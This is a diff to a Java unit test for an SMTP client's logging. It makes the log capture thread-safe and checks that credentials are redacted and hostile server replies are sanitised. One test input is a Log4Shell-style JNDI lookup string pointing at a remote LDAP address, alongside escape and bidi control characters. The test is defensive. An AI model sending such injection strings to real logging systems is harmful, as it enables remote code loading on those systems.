@@ -4,9 +4,10 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
-import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
+import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.concurrent.TimeUnit;
 import java.util.logging.Handler;
 import java.util.logging.LogRecord;
 import java.util.logging.Logger;
@@ -22,7 +23,7 @@ class EchoTest {
     private static final String CANARY = "canary-pass/word";
     private static final String RESPONSE = base64("\0bot\0" + CANARY);
 
-    private final List<String> logged = new ArrayList<>();
+    private final List<String> logged = new CopyOnWriteArrayList<>();
     private final Logger logger = Logger.getLogger("sequitur");
     private final Handler handler = new Handler() {
         @Override
@@ -60,6 +61,7 @@ class EchoTest {
                     "MAIL FROM:<a@example.com>", 530, "530 5.7.0 Authentication required after " + echo + "\n");
         }
 
+        awaitLogged(5);
         assertThat(logged).allSatisfy(text -> assertThat(text).doesNotContain("canary", RESPONSE));
         assertThat(logged.stream().filter(text -> text.endsWith("530 5.7.0 Authentication required after [redacted]")))
                 .hasSize(5);
@@ -75,6 +77,7 @@ class EchoTest {
                 "530-5.7.0 Authentication required\n530 5.7.0 ${jndi:ldap://192.0.2.1/a} %n\u001b[31m\u202e\u2028"
                         + "y".repeat(10_000_000) + "\n");
 
+        awaitLogged(1);
         assertThat(logged).singleElement().satisfies(text -> {
             assertThat(text).matches("[ -~\n]*").doesNotContain("${", "%");
             assertThat(text.lines()).allMatch(line -> line.length() < 520);
@@ -89,6 +92,14 @@ class EchoTest {
         String words = "535 5.7.8 Error: authentication failed: AUTH PLAIN " + RESPONSE + "x".repeat(10_000) + "\n";
 
         assertThat(transport.exchange("AUTH PLAIN " + RESPONSE, 535, words)).isSameAs(words);
+    }
+
+    /** Reports are logged on another thread. These are of a refusal each; there may be others before them. */
+    private void awaitLogged(int refusals) {
+        long end = System.nanoTime() + TimeUnit.MINUTES.toNanos(1);
+        while (logged.stream().filter(text -> text.contains("530")).count() < refusals && System.nanoTime() < end) {
+            Thread.onSpinWait();
+        }
     }
 
     private static String base64(String text) {
